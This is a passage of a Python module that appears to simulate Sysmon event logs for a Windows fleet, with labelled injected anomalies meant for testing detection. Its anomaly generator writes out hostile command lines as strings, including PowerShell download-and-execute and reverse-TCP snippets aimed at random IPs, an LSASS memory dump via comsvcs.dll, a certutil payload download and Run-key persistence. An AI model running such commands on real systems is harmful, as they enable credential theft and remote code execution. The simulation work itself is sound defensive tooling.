        ch = self._spawn("conhost", sh, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                         loads=0)
        for _ in range(rng.randint(1, 3)):
            key, cmd = rng.choice(kids)
            k = self._spawn(key, sh, cmd, loads=1, cwd=f"C:\\Users\\{u.name}\\")
            self._push(lambda k=k: self.ev_term(k))
        self._push(lambda: self.ev_term(ch))
        self._push(lambda: self.ev_term(sh))

    def _scheduled_task(self) -> None:
        rng = self.rng
        sched = self.svc["Schedule"]
        if rng.random() < 0.5:
            host = self._spawn("taskhostw", sched, "taskhostw.exe -RegisterDevice -ProtectionStateChanged "
                               "-FreeNetworkOnly" if rng.random() < 0.3 else "taskhostw.exe", loads=1)
        else:
            host = self._spawn("taskeng", sched, f"taskeng.exe {self.guid()} S-1-5-18:NT AUTHORITY\\"
                               "System:Service:", loads=1)
        k = rng.random()
        if k < 0.3:
            t = self._spawn("gupdate", host, '"{path}" /ua /installsource scheduler', loads=2)
        elif k < 0.5:
            t = self._spawn("defrag", host, "C:\\Windows\\system32\\defrag.exe -c -h -o -$", loads=1)
        elif k < 0.75:
            t = self._spawn("mpcmdrun", host, '"{path}" -IdleTask -TaskName WdCacheMaintenance', loads=1)
        else:
            t = self._spawn("cmd", host, 'C:\\Windows\\system32\\cmd.exe /c '
                            '"C:\\ProgramData\\Scripts\\nightly_backup.cmd"', loads=1,
                            cwd="C:\\ProgramData\\Scripts\\")
            c = self._spawn("conhost", t, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                            loads=0)
            self._push(lambda: self.ev_file(t, "C:\\ProgramData\\Scripts\\logs\\backup.log"))
            self._push(lambda: self.ev_term(c))
        self._push(lambda: self.ev_term(t))
        self._push(lambda: self.ev_term(host))

    def _registry_thunk(self) -> Callable[[], SimEvent]:
        rng = self.rng
        if rng.random() < 0.5:
            p = self.user_proc()
            u = self.sim.user_by_account.get(p.user) or self.users[0]
            sid = u.sid
            k = rng.random()
            if k < 0.3:
                t = (f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\"
                     "{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\"
                     + rng.choice(("HRZR_PGYFRFFVBA", "{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\\abgrcnq.rkr",
                                   "Zvpebfbsg.Jvaqbjf.Rkcybere")))
                return lambda: self.ev_reg(p, 13, "SetValue", t, "Binary Data")
            if k < 0.5:
                ext = rng.choice((".docx", ".xlsx", ".txt", "Folder"))
                t = (f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\"
                     f"{ext}\\{rng.randint(0, 20)}")
                return lambda: self.ev_reg(p, 13, "SetValue", t, "Binary Data")
            if k < 0.7:
                app = rng.choice(("Microsoft.Windows.Explorer", "Microsoft.Office.WINWORD.EXE.15",
                                  "Chrome", "Microsoft.Office.OUTLOOK.EXE.15"))
                t = (f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\"
                     f"AppSwitched\\{app}")
                d = f"DWORD (0x{rng.randint(1, 300):08x})"
                return lambda: self.ev_reg(p, 13, "SetValue", t, d)
            if k < 0.85:
                t = (f"HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\"
                     f"Document {rng.randint(0, 9)}")
                et = rng.choice(("CreateKey", "DeleteKey"))
                return lambda: self.ev_reg(p, 12, et, t, None)
            zone = rng.choice(("ProxyBypass", "IntranetName", "AutoDetect"))
            t = (f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\"
                 f"ZoneMap\\{zone}")
            return lambda: self.ev_reg(p, 13, "SetValue", t, "DWORD (0x00000001)")
        k = rng.random()
        if k < 0.35:
            p = self.svc.get("BITS") or self.services
            u = self.user()
            prog = rng.choice(("notepad.exe", "cmd.exe", "WindowsPowerShell\\v1.0\\powershell.exe",
                               "SearchApp.exe", "taskhostw.exe"))
            t = (f"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{u.sid}\\"
                 f"\\Device\\HarddiskVolume3\\Windows\\System32\\{prog}")
            return lambda: self.ev_reg(p, 13, "SetValue", t, "Binary Data")
        if k < 0.55:
            p = self.svc.get("LocalService") or self.services
            t = "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime"
            d = f"QWORD (0x01da{rng.getrandbits(16):04x}-0x{rng.getrandbits(32):08x})"
            return lambda: self.ev_reg(p, 13, "SetValue", t, d)
        if k < 0.75:
            p = self.msmpeng
            t = rng.choice((
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Diagnostics\\LastKnownGoodPlatformLocation",
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Reporting\\LastRtpScanTime"))
            d = f"QWORD (0x01da{rng.getrandbits(16):04x}-0x{rng.getrandbits(32):08x})"
            return lambda: self.ev_reg(p, 13, "SetValue", t, d)
        if k < 0.9:
            p = self.svc.get("Schedule") or self.services
            task = rng.choice(("Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
                               "Microsoft\\Windows\\Defrag\\ScheduledDefrag",
                               "GoogleUpdateTaskMachineUA"))
            t = f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{task}\\Index"
            return lambda: self.ev_reg(p, 13, "SetValue", t, "DWORD (0x00000003)")
        p = self.svc.get("LocalService") or self.services
        t = "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits\\RunTime"
        et = rng.choice(("CreateKey", "DeleteKey"))
        return lambda: self.ev_reg(p, 12, et, t, None)

    def _network(self) -> None:
        rng = self.rng
        if rng.random() < 0.6:
            p = self.user_proc()
            site, pat = rng.choice(_SITES)
            ip = pat.format(a=rng.randint(1, 250), b=rng.randint(1, 250))
            if rng.random() < 0.6:
                self._push(lambda: self.ev_dns(p, site, ip))
            self._push(lambda: self.ev_net(p, ip, 443, "https"))
            return
        k = rng.random()
        if k < 0.6:
            p = self.lsass if rng.random() < 0.4 else (self.svc.get("gpsvc") or self.services)
            port, name = rng.choice(((389, "ldap"), (88, "kerberos"), (445, "microsoft-ds"),
                                     (135, "epmap")))
            self._push(lambda: self.ev_dns(p, f"dc01.{DOMAIN_FQDN}", "10.10.0.5"))
            self._push(lambda: self.ev_net(p, "10.10.0.5", port, name, f"dc01.{DOMAIN_FQDN}"))
        else:
            p = self.svc.get("wuauserv") or self.msmpeng
            ip = f"20.{rng.randint(40, 200)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}"
            self._push(lambda: self.ev_dns(p, "fe3cr.delivery.mp.microsoft.com", ip))
            self._push(lambda: self.ev_net(p, ip, 443, "https"))

    def _file_thunk(self) -> Callable[[], SimEvent]:
        rng = self.rng
        if rng.random() < 0.6:
            p = self.user_proc()
            u = self.sim.user_by_account.get(p.user) or self.users[0]
            base = f"C:\\Users\\{u.name}\\"
            k = rng.random()
            if k < 0.3:
                t = base + f"AppData\\Local\\Temp\\~DF{rng.getrandbits(32):08X}.TMP"
            elif k < 0.55:
                t = base + f"Downloads\\{rng.choice(_DOCS)}"
            elif k < 0.8:
                t = base + f"AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\" \
                           f"{rng.getrandbits(32):08X}\\{rng.choice(_DOCS)}"
            else:
                t = base + f"AppData\\Roaming\\Microsoft\\Windows\\Recent\\{rng.choice(_DOCS)}.lnk"
        else:
            k = rng.random()
            if k < 0.5:
                p = self.svc.get("SysMain") or self.services
                prog = rng.choice(("CHROME.EXE", "SVCHOST.EXE", "WINWORD.EXE", "CONHOST.EXE", "CMD.EXE"))
                t = f"C:\\Windows\\Prefetch\\{prog}-{rng.getrandbits(32):08X}.pf"
            else:
                p = self.msmpeng
                t = ("C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\"
                     f"{rng.getrandbits(32):08X}-{rng.randint(0, 9)}.bin")
        return lambda: self.ev_file(p, t)

    def _access_thunk(self) -> Callable[[], SimEvent]:
        rng = self.rng
        k = rng.random()
        if k < 0.5:
            src, tgt = self.msmpeng, self.any_proc()
            acc = rng.choice(("0x1000", "0x101000", "0x1400"))
        elif k < 0.8:
            src, tgt = (self.svc.get("Winmgmt") or self.services), self.lsass
            acc = rng.choice(("0x1000", "0x1400"))
        else:
            src, tgt = self.user_proc(), self.any_proc()
            acc = "0x1000"
        trace = (f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                 f"{src.path}+{rng.getrandbits(20):x}")
        return lambda: self.ev_access(src, tgt, acc, trace)

    # -------------------------------------------------------------- anomalies and novelty

    def _rare_ip(self) -> str:
        rng = self.rng
        return (f"{rng.choice((185, 45, 91, 194, 5, 103, 179))}.{rng.randint(1, 254)}."
                f"{rng.randint(1, 254)}.{rng.randint(1, 254)}")

    def _shell_parent(self) -> _Proc:
        rng = self.rng
        shells = [p for p in self.alive if p.session != "0" and p.img.name in
                  ("cmd.exe", "powershell.exe", "explorer.exe", "WINWORD.EXE", "EXCEL.EXE")]
        return rng.choice(shells) if shells else self.user_proc()

    def anomaly(self) -> SimEvent:
        rng = self.rng
        scen = rng.choice(ANOMALY_SCENARIOS)
        u = self.user()
        if scen == "encoded_powershell":
            script = rng.choice((
                f"IEX (New-Object Net.WebClient).DownloadString('http://{self._rare_ip()}/a.ps1')",
                "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAK1X'));"
                "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
                "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
                f"$c=New-Object Net.Sockets.TCPClient('{self._rare_ip()}',443);$st=$c.GetStream()",
                "Get-WmiObject Win32_Process | Select Name,CommandLine | Out-File $env:TEMP\\p.txt",
            ))
            b64 = base64.b64encode(script.encode("utf-16-le")).decode()
            parent = self._shell_parent()
            cmd = f"powershell.exe -nop -w hidden -enc {b64}"
            p = self.new_proc("powershell", parent, cmd, user=self.sim.user_by_account.get(parent.user) or u)
            return self.ev_create(p, _label(scen, cmd), track=False)
        if scen == "lsass_access":
            src = self._shell_parent()
            trace = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                     "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6d8c|C:\\Windows\\SYSTEM32\\dbghelp.dll+"
                     f"{rng.getrandbits(16):x}|UNKNOWN(00000{rng.getrandbits(28):07X})")
            return self.ev_access(src, self.lsass, "0x1010", trace, _label(scen, "0x1010"))
        if scen == "comsvcs_minidump":
            parent = self._shell_parent()
            cmd = (f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump '
                   f"{self.lsass.pid} C:\\Users\\Public\\{_syllables(rng)}.dmp full")
            pu = self.sim.user_by_account.get(parent.user) or u
            p = self.new_proc("rundll32", parent, cmd, user=pu, integrity="High")
            return self.ev_create(p, _label(scen, cmd), track=False)
        if scen == "certutil_download":
            parent = self._shell_parent()
            pu = self.sim.user_by_account.get(parent.user) or u
            name = _syllables(rng)
            cmd = (f"certutil.exe -urlcache -split -f http://{self._rare_ip()}/{name}.exe "
                   f"C:\\Users\\{pu.name}\\AppData\\Local\\Temp\\{name}.exe")
            p = self.new_proc("certutil", parent, cmd, user=pu)
            return self.ev_create(p, _label(scen, cmd), track=False)
        if scen == "winword_cmd":
            words = [p for p in self.alive if p.img.name == "WINWORD.EXE"]
            if not words:
                ex = self.explorer[u.account]
                w = self.new_proc("winword", ex, f'"{{path}}" /n "C:\\Users\\{u.name}\\Downloads\\'
                                  f'{rng.choice(_DOCS)}"', kind="app")
                ev = self.ev_create(w)
                self.pending.appendleft(self.anomaly_winword)
                return ev
            return self.anomaly_winword()
        if scen == "rare_beacon":
            src = self.user_proc()
            ip = self._rare_ip()
            port, pname = rng.choice(((443, "https"), (8443, "-"), (4444, "-"), (8080, "http-alt")))
            return self.ev_net(src, ip, port, pname, label=_label(scen, ip))
        # runkey_persistence
        src = self._shell_parent()
        pu = self.sim.user_by_account.get(src.user) or u
        name = _syllables(rng).capitalize() + rng.choice(("Update", "Helper", "Sync", "Svc"))
        target = f"HKU\\{pu.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{name}"
        details = f"C:\\Users\\{pu.name}\\AppData\\Roaming\\{name}\\{name.lower()}.exe"
        return self.ev_reg(src, 13, "SetValue", target, details, _label("runkey_persistence", target))

    def anomaly_winword(self) -> SimEvent:
        rng = self.rng
        words = [p for p in self.alive if p.img.name == "WINWORD.EXE"]
        w = rng.choice(words) if words else self.user_proc()
        pu = self.sim.user_by_account.get(w.user) or self.users[0]
        cmd = rng.choice((
            f'cmd.exe /c "%APPDATA%\\{_syllables(rng)}.bat"',
            f"C:\\Windows\\system32\\cmd.exe /c start /b %TEMP%\\{_syllables(rng)}.exe",
            "cmd.exe /c whoami /all > %TEMP%\\o.txt",
        ))
        p = self.new_proc("cmd", w, cmd, user=pu)
        return self.ev_create(p, _label("winword_cmd", cmd), track=False)

    def novel(self) -> SimEvent:
        """One never-seen benign event: a new program, a new DLL, a new domain."""
        rng = self.rng
        lab = _label("novel")
        k = rng.random()
        vendor = _syllables(rng).capitalize() + rng.choice((" Software", " Labs", " Systems", "soft", ""))
        prod = _syllables(rng).capitalize()
        if k < 0.5:
            u = self.user()
            ex = self.explorer[u.account]
            exe = f"{prod.lower()}{rng.choice(('', '64', 'app', 'client', 'agent'))}.exe"
            if rng.random() < 0.5:
                path = f"C:\\Program Files\\{vendor}\\{prod}\\{exe}"
            else:
                path = f"C:\\Users\\{u.name}\\AppData\\Local\\Programs\\{prod}\\{exe}"
            img = _Img(path, f"{prod} {rng.choice(('Desktop', 'Client', 'Updater', 'Viewer'))}", exe,
                       product=prod, company=vendor.strip(),
                       version=f"{rng.randint(1, 12)}.{rng.randint(0, 9)}.{rng.randint(0, 999)}.0")
            args = rng.choice(("", " --minimized", " /background", f" --profile {rng.randint(1, 9)}"))
            p = self.new_proc("", ex, f'"{{path}}"{args}', user=u, img=img)
            return self.ev_create(p, lab, track=False)
        if k < 0.75:
            p = self.user_proc()
            dom = f"{_syllables(rng)}{rng.choice(('', '-cdn', '-api', 'hub'))}.{rng.choice(('com', 'io', 'net', 'app'))}"
            ip = f"{rng.choice((104, 172, 151, 23, 34))}.{rng.randint(1, 250)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}"
            return self.ev_dns(p, dom, ip, lab)
        p = self.explorer[self.user().account]
        dll = f"C:\\Program Files\\{vendor}\\{prod}\\{prod.lower()}shellext.dll"
        f = {"RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "Image": p.path, "ImageLoaded": dll,
             "FileVersion": f"{rng.randint(1, 9)}.{rng.randint(0, 9)}.{rng.randint(0, 99)}",
             "Description": f"{prod} Shell Extension", "Product": prod, "Company": vendor.strip(),
             "OriginalFileName": f"{prod.lower()}shellext.dll",
             "Hashes": self.sim.hashes(dll, cache=False), "Signed": "true",
             "Signature": vendor.strip(), "SignatureStatus": "Valid", "User": p.user}
        return self.make(7, f, lab)


# ------------------------------------------------------------------------------ the fleet


class _Sim:
    def __init__(self, seed: int, hosts: int, start: datetime):
        self.rng = rng = random.Random(seed)
        self.seed = seed
        self.start = start
        self._hash_cache: dict[str, str] = {}
        self._dll_cache: dict[str, tuple] = {}
        dom_sid = f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}-" \
                  f"{rng.randrange(10**8, 10**9)}"
        names: list[str] = []
        seen: set[str] = set()
        self.user_by_account: dict[str, _User] = {}
        per_host: list[list[_User]] = []
        for _ in range(hosts):
            us = []
            for s in range(rng.randint(2, 3)):
                while True:
                    nm = f"{rng.choice(_FIRST)}.{rng.choice(_LAST)}"
                    if nm not in seen:
                        break
                    if len(seen) > len(_FIRST) * len(_LAST) // 2:
                        nm = f"{nm}{len(seen)}"
                        break
                seen.add(nm)
                names.append(nm)
                u = _User(nm, f"{dom_sid}-{1100 + len(names)}")
                u.session = str(s + 1)
                us.append(u)
                self.user_by_account[u.account] = u
            per_host.append(us)
        self.hosts: list[_Host] = []
        for i, us in enumerate(per_host):
            hp = f"{(rng.getrandbits(20) << 12) | i:08X}"
            for u in us:
                lid = rng.randrange(0x100000, 0xFFFFFF)
                u.logon_id = f"0x{lid:x}"
                u.logon_guid = (f"{{{hp}-{rng.getrandbits(16):04X}-{rng.getrandbits(16):04X}-"
                                f"{lid & 0xFFFF:04X}-{lid >> 16:02X}0000000000}}")
            self.hosts.append(_Host(self, i, us, hp))

    def hashes(self, path: str, cache: bool = True) -> str:
        hit = self._hash_cache.get(path) if cache else None
        if hit is not None:
            return hit
        basis = f"{self.seed}|{path.lower()}".encode() if cache else \
            self.rng.getrandbits(128).to_bytes(16, "big")
        h = (f"SHA1={hashlib.sha1(basis).hexdigest().upper()},MD5={hashlib.md5(basis).hexdigest().upper()},"
             f"SHA256={hashlib.sha256(basis).hexdigest().upper()},"
             f"IMPHASH={hashlib.md5(basis + b'imp').hexdigest().upper()}")
        if cache:
            self._hash_cache[path] = h
        return h

    def dll_info(self, dll: str) -> tuple:
        hit = self._dll_cache.get(dll)
        if hit is not None:
            return hit
        signer, comp, prod, ver = "Microsoft Windows", _MS_CO, _MS_PROD, _WIN_VER
        if dll.endswith(".ni.dll"):
            path = f"C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\{dll[:-7]}\\{dll}"
            signer, prod, ver = "Microsoft Corporation", "Microsoft\u00ae .NET Framework", "4.8.9181.0"
        elif dll in ("chrome.dll", "chrome_elf.dll"):
            path = f"C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\{dll}"
            signer, comp, prod, ver = "Google LLC", "Google LLC", "Google Chrome", "120.0.6099.130"
        elif dll in ("mso.dll", "mso20win32client.dll", "VBE7.DLL"):
            path = f"C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\{dll}"
            signer, prod, ver = "Microsoft Corporation", "Microsoft Office", "16.0.17126.20132"
        elif dll in ("wwlib.dll", "OLMAPI32.DLL"):
            path = _OFFICE + dll
            signer, prod, ver = "Microsoft Corporation", "Microsoft Office", "16.0.17126.20132"
        elif dll == "MpOav.dll":
            path = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpOav.dll"
        elif dll in ("clr.dll", "clrjit.dll", "mscoreei.dll"):
            path = f"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\{dll}"
            signer, prod, ver = "Microsoft Corporation", "Microsoft\u00ae .NET Framework", "4.8.9181.0"
        else:
            path = _SYS32 + dll
        desc = _DLL_DESC.get(dll, dll.rsplit(".", 1)[0])
        info = (path, ver, desc, prod, comp, dll, self.hashes(path), signer)
        self._dll_cache[dll] = info
        return info


def generate(n: int, *, seed: int = 0, anomaly_rate: float = 0.01, novel_rate: float = 0.02,
             hosts: int = 8, start: datetime | None = None) -> Iterator[SimEvent]:
    """Lazily yield `n` simulated events in time order across the fleet (constant memory).

    Per host: record ids increase by one, UtcTime advances by at least 1 ms. Each event is an
    injected anomaly with probability `anomaly_rate`, never-seen benign behaviour with
    probability `novel_rate`, otherwise ordinary fleet behaviour.
    """
    if n < 0:
        raise ValueError("n must be >= 0")
    if hosts < 1:
        raise ValueError("hosts must be >= 1")
    if not 0.0 <= anomaly_rate <= 1.0 or not 0.0 <= novel_rate <= 1.0:
        raise ValueError("anomaly_rate and novel_rate must be between 0 and 1")
    return _generate(n, seed, anomaly_rate, novel_rate, hosts, start)


def _generate(n: int, seed: int, anomaly_rate: float, novel_rate: float, hosts: int,
              start: datetime | None) -> Iterator[SimEvent]:
    if n == 0:
        return
    if start is None:
        start = DEFAULT_START
    elif start.tzinfo is None:
        start = start.replace(tzinfo=timezone.utc)
    start = start.astimezone(timezone.utc).replace(microsecond=start.microsecond // 1000 * 1000)
    sim = _Sim(seed, hosts, start)
    rng = sim.rng
    rand = rng.random
    heap = [(h.t_ms, h.idx) for h in sim.hosts]
    heapq.heapify(heap)
    fleet = sim.hosts
    novel_cut = anomaly_rate + novel_rate
    for _ in range(n):
        _, idx = heapq.heappop(heap)
        h = fleet[idx]
        h.set_clock()
        r = rand()
        if h.booting:
            ev = h.step()
        elif r < anomaly_rate:
            ev = h.anomaly()
        elif r < novel_cut:
            ev = h.novel()
        else:
            ev = h.step()
        yield ev
        # bursts (queued follow-ups) come quickly; otherwise the host idles a while
        if h.pending:
            h.t_ms += 1 + int(rand() * 6)
        else:
            h.t_ms += 1 + int(rng.expovariate(0.004))
        heapq.heappush(heap, (h.t_ms, idx))


# ------------------------------------------------------------------------------ shapes


def _iso_ms(dt: datetime) -> str:
    return (f"{dt.year:04d}-{dt.month:02d}-{dt.day:02d}T{dt.hour:02d}:{dt.minute:02d}:"
            f"{dt.second:02d}.{dt.microsecond // 1000:03d}Z")


def _plain(dt: datetime) -> str:
    return (f"{dt.year:04d}-{dt.month:02d}-{dt.day:02d} {dt.hour:02d}:{dt.minute:02d}:"
            f"{dt.second:02d}")


def _message(ev: SimEvent) -> str:
    title = _META.get(ev.event_id, ("Sysmon event",))[0]
    return f"{title}:\r\n" + "\r\n".join(f"{k}: {v}" for k, v in ev.fields.items())


def _delay_ms(ev: SimEvent, rng: random.Random | None) -> int:
    """Ingest delay: a few seconds after the event (deterministic per event without an rng)."""
    if rng is not None:
        return rng.randint(800, 4800)
    return 800 + (ev.record_id * 2654435761) % 4000


def _thread_id(ev: SimEvent) -> int:
    return 4 * (900 + (ev.record_id * 7919) % 1500)


def _render_winlogbeat8(ev: SimEvent, rng: random.Random | None) -> dict:
    ingest = ev.utc_time + timedelta(milliseconds=_delay_ms(ev, rng))
    code = str(ev.event_id)
    task = _META.get(ev.event_id, ("", "Sysmon event", 0))[1]
    return {
        "@timestamp": _iso_ms(ingest),
        "ecs": {"version": "8.0.0"},
        "event": {"code": code, "provider": PROVIDER, "kind": "event",
                  "created": _iso_ms(ingest + timedelta(milliseconds=7)),
                  "action": task.split(" (rule: ")[0]},
        "winlog": {
            "channel": ev.channel, "computer_name": ev.computer, "event_id": code,
            "record_id": ev.record_id, "provider_name": PROVIDER, "provider_guid": PROVIDER_GUID,
            "process": {"pid": ev.sysmon_pid, "thread": {"id": _thread_id(ev)}},
            "user": {"identifier": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM",
                     "type": "User"},
            "event_data": dict(ev.fields), "opcode": "Info", "task": task,
            "version": _META.get(ev.event_id, ("", "", 1))[2],
            "api": "wineventlog",
        },
        "host": {"name": ev.computer.split(".", 1)[0]},
        "agent": {"type": "winlogbeat", "version": "8.11.0"},
        "log": {"level": "information"},
        "message": _message(ev),
        LABEL_KEY: dict(ev.label),
    }


def _render_nxlog(ev: SimEvent, rng: random.Random | None) -> dict:
    local = ev.utc_time + timedelta(milliseconds=_LOCAL_OFFSET_MS)
    received = local + timedelta(milliseconds=_delay_ms(ev, rng))
    meta = _META.get(ev.event_id, ("Sysmon event", "Sysmon event", 1))
    doc: dict[str, Any] = {
        "EventTime": _plain(local), "Hostname": ev.computer, "Keywords": -9223372036854775808,
        "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": ev.event_id,
        "SourceName": PROVIDER, "ProviderGuid": PROVIDER_GUID, "Version": meta[2], "Task": 1 if
        ev.event_id == 1 else ev.event_id, "OpcodeValue": 0, "RecordNumber": ev.record_id,
        "ExecutionProcessID": ev.sysmon_pid, "ThreadID": _thread_id(ev), "Channel": ev.channel,
        "Domain": "NT AUTHORITY", "AccountName": "SYSTEM", "UserID": "S-1-5-18",
        "AccountType": "User", "Message": _message(ev), "Category": meta[1], "Opcode": "Info",
    }
    doc.update(ev.fields)  # Sysmon's own EventType (SetValue...) replaces NXLog's
    doc["EventReceivedTime"] = _plain(received)
    doc["SourceModuleName"] = "eventlog"
    doc["SourceModuleType"] = "im_msvistalog"
    doc[LABEL_KEY] = dict(ev.label)
    return doc


def _render_evtx(ev: SimEvent, rng: random.Random | None) -> dict:
    data: dict[str, Any] = {}
    for k, v in ev.fields.items():
        if k in _INT_FIELDS and v.isdigit():
            data[k] = int(v)
        elif k in _BOOL_FIELDS:
            data[k] = v == "true"
        else:
            data[k] = v
    sys_us = ev.utc_time.microsecond // 1000 * 1000 + (ev.record_id * 37) % 1000
    st = ev.utc_time.replace(microsecond=sys_us)
    meta = _META.get(ev.event_id, ("", "", 1))
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": PROVIDER, "Guid": PROVIDER_GUID}},
                "EventID": ev.event_id, "Version": meta[2], "Level": 4, "Task": ev.event_id,
                "Opcode": 0, "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": _plain(st).replace(" ", "T")
                                                + f".{st.microsecond:06d}Z"}},
                "EventRecordID": ev.record_id, "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": ev.sysmon_pid, "ThreadID": _thread_id(ev)}},
                "Channel": ev.channel, "Computer": ev.computer,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        },
        LABEL_KEY: dict(ev.label),
    }


_RENDERERS = {"winlogbeat8": _render_winlogbeat8, "nxlog": _render_nxlog, "evtxjson": _render_evtx}


def render(ev: SimEvent, shape: str, rng: random.Random | None = None) -> dict:
    """Render one event as a record of `shape` (with the side label at top level).

    `mixed` picks winlogbeat8 or nxlog (with `rng`, else from the record id). `rng` also
    jitters ingest times; without it the rendering is a pure function of the event.
    """
    fn = _RENDERERS.get(shape)
    if fn is None:
        if shape != "mixed":
            raise ValueError(f"unknown shape {shape!r} (expected one of {', '.join(SHAPES)})")
        pick = rng.random() < 0.5 if rng is not None else (ev.record_id * 40503 >> 7) & 1
        fn = _render_winlogbeat8 if pick else _render_nxlog
    return fn(ev, rng)


def simulate_records(n: int, *, seed: int = 0, anomaly_rate: float = 0.01,
                     shape: str = "winlogbeat8", **kw: Any) -> Iterator[dict]:
    """Lazily yield `n` rendered records (`kw`: novel_rate, hosts, start of `generate`)."""
    if shape not in SHAPES:
        raise ValueError(f"unknown shape {shape!r} (expected one of {', '.join(SHAPES)})")
    rrng = random.Random(f"render:{seed}")
    fn = _RENDERERS.get(shape)
    gen = generate(n, seed=seed, anomaly_rate=anomaly_rate, **kw)
    if fn is not None:
        return (fn(ev, rrng) for ev in gen)
    return (render(ev, shape, rrng) for ev in gen)


def write_jsonl(path: Any, n: int, **kw: Any) -> int:
    """Write `n` records as JSON lines to `path` ("-" = stdout); returns the count."""
    dumps = orjson.dumps
    count = 0
    if str(path) == "-":
        out = sys.stdout.buffer
        close = False
    else:
        out = open(path, "wb", buffering=1 << 20)
        close = True
    try:
        buf: list[bytes] = []
        for rec in simulate_records(n=n, **kw):
            buf.append(dumps(rec))
            count += 1
            if len(buf) >= 2048:
                out.write(b"\n".join(buf) + b"\n")
                buf.clear()
        if buf:
            out.write(b"\n".join(buf) + b"\n")
        out.flush()
    finally:
        if close:
            out.close()
    return count


def produce_kafka(bootstrap: str, topic: str, n: int, rate: float | None = None,
                  producer_config: dict[str, Any] | None = None, **kw: Any) -> int:
    """Produce `n` records to Kafka (key = computer, value = JSON bytes), at most `rate` per second.

    Flushes at the end; raises RuntimeError naming the broker if any delivery fails.
    """
    from confluent_kafka import KafkaException, Producer

    conf: dict[str, Any] = {"bootstrap.servers": bootstrap, "linger.ms": 20,
                            "compression.type": "lz4", "message.timeout.ms": 60000}
    conf.update(producer_config or {})
    try:
        producer = Producer(conf)
    except KafkaException as exc:
        raise RuntimeError(f"cannot create a Kafka producer for {bootstrap}: {exc}") from exc
    errors: list[str] = []

    def on_delivery(err: Any, _msg: Any) -> None:
        if err is not None and len(errors) < 5:
            errors.append(str(err))

    dumps = orjson.dumps
    sent = 0
    t0 = time.monotonic()
    for rec in simulate_records(n=n, **kw):
        if errors:
            break
        key = (rec.get("winlog", {}).get("computer_name") or rec.get("Hostname")
               or rec.get("Event", {}).get("System", {}).get("Computer") or "").encode()
        value = dumps(rec)
        while True:
            try:
                producer.produce(topic, value=value, key=key, on_delivery=on_delivery)
                break
            except BufferError:
                producer.poll(0.1)
        sent += 1
        producer.poll(0)
        if rate and rate > 0:
            ahead = sent / rate - (time.monotonic() - t0)
            if ahead > 0:
                time.sleep(ahead)
    remaining = producer.flush(max(30.0, conf.get("message.timeout.ms", 60000) / 1000 + 5))
    if errors:
        raise RuntimeError(f"Kafka delivery to {bootstrap} (topic {topic}) failed: {errors[0]}")
    if remaining:
        raise RuntimeError(f"Kafka delivery to {bootstrap} (topic {topic}) failed: "
                           f"{remaining} message(s) not delivered")
    return sent
